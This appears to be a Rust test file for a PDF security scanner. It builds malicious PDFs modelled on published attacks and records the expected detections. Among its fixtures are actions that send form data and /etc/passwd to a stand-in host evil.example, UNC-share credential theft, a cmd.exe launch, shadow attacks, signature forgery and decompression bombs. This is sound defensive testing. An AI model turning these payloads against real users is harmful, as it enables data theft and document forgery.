//! The danger matrix: published attacks, by the names their papers gave them: "Processing Dangerous Paths" (NDSS 2021), "Shadow
//! Attacks" (NDSS 2021), signatures (USF, ISA, SWA: CCS 2019), certified documents (S&P 2021), PDFex (CCS 2019), polyglots.

use super::build::{BODY, Doc, deflate, stream};
use super::cases::{CALC, annot, bytes, cases, field, packed, plain};
use super::cipher;
use super::plant::planted;
use crate::Planted;
use crate::matrix::{Case, Expect, Shape};

const FORM: &str = "/Type/XObject/Subtype/Form/BBox[0 0 300 80]";
const UNC: &str = "\\\\\\\\evil.example\\\\share";

fn open(action: &str) -> Doc {
    Doc::new().catalog(&format!("/OpenAction<<{action}>>"))
}

fn on_page(action: &str) -> Doc {
    Doc::new().page(&format!("/AA<</O<<{action}>>/C<<{action}>>>>"))
}

/// A signed form whose field shows something, with these updates behind the signature.
fn signed(newer: &[(u32, &str)]) -> Vec<u8> {
    signed_with("/ByteRange[0 1 2 3]/Contents<00FACADE>").build_updated(newer)
}

fn signed_with(signature: &str) -> Doc {
    Doc::new()
        .catalog("/AcroForm<</SigFlags 3/Fields[6 0 R]>>/Perms<</DocMDP 9 0 R>>")
        .page("/Annots[6 0 R]")
        .object(6, "<</Type/Annot/Subtype/Widget/FT/Sig/T(sig)/Rect[10 10 90 90]/AP<</N 7 0 R>>/V 9 0 R>>")
        .stream(7, FORM, b"1 2 3 4 re S")
        .object(9, &format!("<</Type/Sig/Filter/Adobe.PPKLite{signature}>>"))
}

/// Content in the comment or the stream of another object, which a careless reader takes for an object.
fn masked(objects: &[(u32, &str)]) -> Planted {
    let mut doc = Doc::new();
    for (n, value) in objects {
        doc.objects.push((*n, value.as_bytes().to_vec()));
    }
    plain(&doc, &["other face"], &[])
}

const HIDDEN: &str = "4 0 obj<</Length 40>>stream\nBT /F1 9 Tf 9 9 Td (the other face) Tj ET    \nendstream endobj";

/// A whole other document within a stream of this one.
fn matryoshka() -> Planted {
    let mut inner = Doc::new();
    inner.content = b"BT /F1 9 Tf 9 9 Td (the other face) Tj ET".to_vec();
    plain(&Doc::new().stream(6, "", &inner.build()), &["other face"], &[])
}

/// Another trailer, with a root of its own, behind the end.
fn two_trailers() -> Vec<u8> {
    let whole = Doc::new().object(6, "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(evil-js)>>>>").build();
    [&whole[..], b"trailer\n<</Size 9/Root 6 0 R>>\n"].concat()
}

/// What is shown lies beneath a picture, which an update takes away.
fn shadow_hide() -> Vec<u8> {
    Doc::new()
        .resources("/XObject<</Cover 7 0 R>>")
        .content("/Cover Do")
        .stream(7, FORM, b"1 g 0 0 300 80 re f")
        .build_updated(&[(7, "<</Type/XObject/Subtype/Image>>")])
}

/// A field looks otherwise than its value.
fn shadow_replace() -> Vec<u8> {
    field("", "/AP<</N 7 0 R>>")
        .stream(7, FORM, b"BT /Helv 9 Tf (old secret price) Tj ET")
        .build_updated(&[(6, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Tanaka)/Rect[10 10 90 30]>>")])
}

/// A second content waits unused, until an update brings it up.
fn shadow_both() -> Vec<u8> {
    let mut doc = Doc::new().stream(8, "", format!("BT /F1 24 Tf 72 700 Td ({BODY}) Tj ET").as_bytes());
    doc.content = b"BT /F1 24 Tf 72 700 Td (old secret price) Tj ET".to_vec();
    let mut out = doc.build();
    let prev = out.windows(6).rposition(|w| w == b"\nxref\n").unwrap() + 1;
    let at = out.windows(8).position(|w| w == b"\n3 0 obj").unwrap() + 1;
    let page = String::from_utf8(out[at..].split(|b| *b == b'\n').nth(1).unwrap().to_vec()).unwrap();
    let page = page.replace("/Contents 4 0 R", "/Contents 8 0 R");
    let place = out.len();
    out.extend_from_slice(format!("3 0 obj\n{page}\nendobj\n").as_bytes());
    let table = out.len();
    out.extend_from_slice(
        format!(
            "xref\n3 1\n{place:010} 00000 n \ntrailer\n<</Size 9/Root 1 0 R/Prev {prev}>>\nstartxref\n{table}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

/// The rest of the file is plain, and sends what was deciphered away.
fn pdfex(catalog: &str) -> Vec<u8> {
    cipher::encrypt("", Doc::new().catalog(catalog))
}

fn polyglot(before: &[u8], behind: &[u8]) -> Planted {
    bytes([before, &Doc::new().build(), behind].concat())
}

cases! {
    // Denial of service.
    "PDF-T01" Plain "infinite loop A1: a page whose boxes are references to one another" => Expect::Silent, plain(&Doc::new().page("/VP 6 0 R").object(6, "7 0 R").object(7, "6 0 R"), &[], &[]);
    "PDF-T01" Disguised "infinite loop A2: an array that holds itself" => Expect::Silent, packed(&Doc::new().page("/VP 6 0 R").object(6, "[6 0 R 6 0 R]"), &[], &[]);
    "PDF-T01" Disguised "infinite loop A4: a page tree in a circle" => Expect::Silent, plain(&Doc::new().object(2, "<</Type/Pages/Kids[6 0 R 3 0 R]/Count 2/MediaBox[0 0 595 842]>>").object(6, "<</Type/Pages/Kids[2 0 R]/Count 1>>"), &[], &["/Count 1"]);
    "PDF-T01" Disguised "infinite loop B: places that lead to one another" => Expect::Reported("pdf.destination"), plain(&Doc::new().catalog("/Dests<</a/b/b/a>>").link("/Dest/a"), &["/a", "/b"], &["/Subtype/Link"]);
    "PDF-T01" Disguised "infinite loop C: actions in a circle" => Expect::Silent, plain(&open("/S/GoTo/D[3 0 R/Fit]/Next 6 0 R").object(6, "<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>"), &["/Next"], &["/OpenAction["]);
    "PDF-T01" Disguised "infinite loop D: a function stitched from itself" => Expect::Silent, plain(&Doc::new().resources("/Shading<</S<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 0]/Function 6 0 R>>>>").content("/S sh").object(6, "<</FunctionType 3/Domain[0 1]/Functions[6 0 R]/Bounds[]/Encode[0 1]>>"), &["/FunctionType 3"], &[]);
    "PDF-T01" Disguised "infinite loop E: bookmarks in a circle" => Expect::Silent, plain(&Doc::new().catalog("/Outlines 6 0 R").object(6, "<</First 7 0 R/Last 8 0 R>>").object(7, "<</Title(one)/Parent 6 0 R/Next 8 0 R>>").object(8, "<</Title(two)/Parent 6 0 R/Prev 7 0 R/Next 7 0 R>>"), &[], &["(one)", "(two)", "/Count 2"]);
    "PDF-T01" Disguised "infinite loop F: object streams that extend one another" => Expect::Silent, plain(&Doc::new().stream(9, "/Type/ObjStm/N 1/First 5/Extends 10 0 R", b"20 0 [1]").stream(10, "/Type/ObjStm/N 1/First 5/Extends 9 0 R", b"21 0 [2]"), &["/Extends", "ObjStm"], &[]);
    "PDF-T02" Disguised "deflate bomb: a form that swells to 600 MB" => Expect::Refused("limit_bytes"), plain(&Doc::new().resources("/XObject<</X 6 0 R>>").content("/X Do").stream(6, &format!("{FORM}/Filter[/FlateDecode/FlateDecode]"), &deflate(&deflate(&vec![b' '; 600 << 20]))), &[], &[]);
    // Information disclosure.
    "PDF-A01" Disguised "URL invocation: on opening" => Expect::Reported("pdf.open-action"), plain(&open("/S/URI/URI(http://evil.example/seen)"), &["evil.example", "OpenAction"], &[]);
    "PDF-A02" Disguised "URL invocation: on opening a page" => Expect::Reported("pdf.additional-action"), plain(&on_page("/S/URI/URI(http://evil.example/seen)"), &["evil.example", "/AA"], &[]);
    "PDF-A02" Disguised "URL invocation: when an annotation becomes visible" => Expect::Reported("pdf.additional-action"), packed(&annot("/Subtype/Link/AA<</PV<</S/URI/URI(http://evil.example/seen)>>/PO<</S/URI/URI(http://evil.example/seen)>>>>"), &["evil.example", "/AA"], &["/Subtype/Link"]);
    "PDF-A04" Disguised "URL invocation: what a link had before it was turned into an action" => Expect::Silent, plain(&annot("/Subtype/Link/PA<</S/URI/URI(http://evil.example/seen)>>"), &["evil.example", "/PA"], &["/Subtype/Link"]);
    "PDF-A03" Disguised "form data leakage: sent on opening a page" => Expect::Reported("pdf.submit-form"), plain(&on_page("/S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>/Flags 4"), &["SubmitForm", "evil.example"], &[]);
    "PDF-A03" Disguised "local file leakage: form data read from a file" => Expect::Reported("pdf.import-data"), plain(&open("/S/ImportData/F(/etc/passwd)/Next<</S/SubmitForm/F(http://evil.example/)>>"), &["ImportData", "passwd", "SubmitForm"], &[]);
    "PDF-A03" Disguised "local file leakage: another document on this machine" => Expect::Reported("pdf.remote-goto"), plain(&open("/S/GoToR/F(file:///c:/secret.pdf)/D[0/Fit]"), &["GoToR", "secret.pdf"], &[]);
    "PDF-A09" Disguised "local file leakage: the page's content is a file" => Expect::Reported("pdf.external-stream"), plain(&Doc::new().resources("/XObject<</X 6 0 R>>").content("/X Do").stream(6, &format!("{FORM}/F(/etc/passwd)/FFilter/FlateDecode"), b""), &["passwd", "FFilter"], &[]);
    "PDF-A09" Disguised "credential theft: a field's value lies on a share" => Expect::Silent, plain(&field("", "/DV 7 0 R").stream(7, &format!("/F({UNC})"), b""), &["evil.example"], &["(Yamada)"]);
    "PDF-A03" Disguised "credential theft: a program on a share" => Expect::Reported("pdf.launch"), plain(&open(&format!("/S/Launch/F({UNC})")), &["Launch", "evil.example"], &[]);
    "PDF-A03" Disguised "credential theft: a document within a document on a share" => Expect::Reported("pdf.remote-goto"), packed(&on_page(&format!("/S/GoToE/F({UNC})/T<</R/C/N(x)>>/D[0/Fit]")), &["GoToE", "evil.example"], &[]);
    "PDF-A03" Disguised "credential theft: a thread in a file on a share" => Expect::Silent, plain(&Doc::new().link(&format!("/A<</S/Thread/F({UNC})/D 0>>")), &["/Thread", "evil.example"], &["/Subtype/Link"]);
    "PDF-A10" Disguised "credential theft: a page of a document on a share" => Expect::Reported("pdf.foreign-object"), plain(&Doc::new().resources("/XObject<</X 6 0 R>>").content("/X Do").stream(6, &format!("{FORM}/Ref<</F({UNC})/Page 0>>"), b"1 2 3 4 re f"), &["/Ref", "evil.example"], &["1 2 3 4 re"]);
    // Data manipulation.
    "PDF-A07" Disguised "form modification: fields filled on opening" => Expect::Reported("pdf.javascript"), packed(&field("", "").catalog("/OpenAction<</S/JavaScript/JS(this.getField\\('name'\\).value='evil')>>"), &["getField", "JavaScript"], &["(Yamada)"]);
    "PDF-A07" Disguised "form modification: fields hidden and emptied" => Expect::Reported("pdf.other-action"), plain(&field("", "").link("/A<</S/Hide/T(name)/Next<</S/ResetForm>>>>"), &["/Hide", "ResetForm"], &[]);
    "PDF-A03" Disguised "file write: a menu command that saves" => Expect::Reported("pdf.other-action"), plain(&Doc::new().link("/A<</S/Named/N/SaveAs>>"), &["SaveAs", "/Named"], &["/Subtype/Link"]);
    "PDF-A03" Disguised "file write: a program with arguments" => Expect::Reported("pdf.launch"), plain(&open("/S/Launch/Win<</F(cmd.exe)/P(/c echo evil>c:/x)/O(open)>>/Mac(evil)/Unix(evil)"), &["Launch", "cmd.exe", "evil"], &[]);
    "PDF-T05" Disguised "content masking: an object in a comment" => Expect::Silent, masked(&[(6, &format!("0 %{}", HIDDEN.replace('\n', " ")))]);
    "PDF-T05" Disguised "content masking: an object within a stream" => Expect::Silent, masked(&[(6, &format!("<</Length {}>>\nstream\n{HIDDEN}\nendstream", HIDDEN.len()))]);
    "PDF-T05" Disguised "content masking: an object within a string" => Expect::Silent, masked(&[(6, &format!("({HIDDEN})"))]);
    "PDF-T05" Disguised "content masking: two stream words" => Expect::Silent, masked(&[(6, "<</Length 3>>\nstream\nabc\nendstream\nstream\nBT (the other face) Tj ET\nendstream")]);
    "PDF-T06" Disguised "content masking: a document in a document" => Expect::Silent, matryoshka();
    "PDF-T06" Disguised "content masking: a second trailer behind the end" => Expect::Silent, planted("case", two_trailers(), &["evil-js", "JavaScript"], &[]);
    // Code execution.
    "PDF-A03" Disguised "code execution: a program by its old keys" => Expect::Reported("pdf.launch"), plain(&Doc::new().link("/A<</S/Launch/DOS(calc.exe)/F<</DOS(calc.exe)/Unix(calc)>>>>"), &["Launch", "calc"], &["/Subtype/Link"]);
    "PDF-A05" Disguised "code execution: a script of the document, in a stream behind filters" => Expect::Reported("pdf.javascript"), plain(&Doc::new().catalog("/Names<</JavaScript<</Kids[<</Names[(a)<</S/JavaScript/JS 6 0 R>>]>>]>>>>").stream(6, "/Filter[/FlateDecode/A85]", &deflate(b"ATfLFEbTE(~>")), &["JavaScript"], &[]);
    // Shadow attacks.
    "PDF-R02" Disguised "shadow attack: hide" => Expect::Reported("pdf.old-revision"), planted("case", shadow_hide(), &["0 0 300 80 re"], &[]);
    "PDF-R02" Disguised "shadow attack: replace" => Expect::Reported("pdf.old-revision"), planted("case", shadow_replace(), &["old secret", "(Yamada)"], &["(Tanaka)"]);
    "PDF-R02" Disguised "shadow attack: hide and replace" => Expect::Reported("pdf.old-revision"), planted("case", shadow_both(), &["old secret"], &[]);
    // Signatures.
    "PDF-A15" Disguised "universal signature forgery: nothing is signed" => Expect::Reported("pdf.signature"), plain(&signed_with("/ByteRange null/Contents<00>"), &["/Sig", "ByteRange"], &["/Subtype/Stamp"]);
    "PDF-A15" Disguised "incremental saving: an update behind the signature" => Expect::Reported("pdf.signature"), planted("case", signed(&[(8, "(x)")]), &["/Sig", "FACADE"], &["/Subtype/Stamp"]);
    "PDF-A15" Disguised "signature wrapping: what was signed lies in a gap" => Expect::Reported("pdf.signature"), plain(&signed_with("/ByteRange[0 99999 -5 99999]/Contents<00FACADE>").stream(8, "", b"moved-content"), &["/Sig", "FACADE", "moved-content"], &["/Subtype/Stamp"]);
    "PDF-A15" Disguised "evil annotation: a text over a certified document" => Expect::Reported("pdf.signature"), planted("case", signed(&[(3, "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[6 0 R<</Type/Annot/Subtype/FreeText/Rect[0 0 300 300]/Contents(written over)/DA(/F1 9 Tf)>>]>>")]), &["/Sig", "FACADE", "DocMDP"], &["(written over)", "/Subtype/Stamp"]);
    // Encryption.
    "PDF-R03" Disguised "PDFex: a form that sends what is deciphered" => Expect::Reported("pdf.encryption"), planted("case", pdfex("/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>"), &["SubmitForm", "evil.example", "/Encrypt"], &[]);
    "PDF-R03" Disguised "PDFex: a script in a file of which only the page is encrypted" => Expect::Reported("pdf.encryption"), planted("case", pdfex(&format!("/AA<</WC<</S/JavaScript/JS({CALC})>>>>")), &["JavaScript", "evil.example", "/Encrypt"], &[]);
    // Polyglots.
    "PDF-T09" Disguised "polyglot: PDF and JPEG" => Expect::Refused("polyglot"), polyglot(b"\xFF\xD8\xFF\xE0\0\x10JFIF\0", b"");
    "PDF-T09" Disguised "polyglot: PDF and GIF" => Expect::Refused("polyglot"), polyglot(b"GIF89a/*", b"*/=1;alert(1)");
    "PDF-T09" Disguised "polyglot: PDF and a Unix program" => Expect::Refused("polyglot"), polyglot(b"\x7fELF\x02\x01\x01", b"");
    "PDF-T09" Disguised "polyglot: PDF and RAR" => Expect::Refused("polyglot"), polyglot(b"", b"\nRar!\x1A\x07\x01\0");
    "PDF-T04" Disguised "content of which the filters are not names" => Expect::Refused("malformed_pdf"), plain(&{ let mut doc = Doc::new(); doc.objects.push((4, stream("/Filter[(FlateDecode) 7]", b"x"))); doc }, &[], &[]);
}
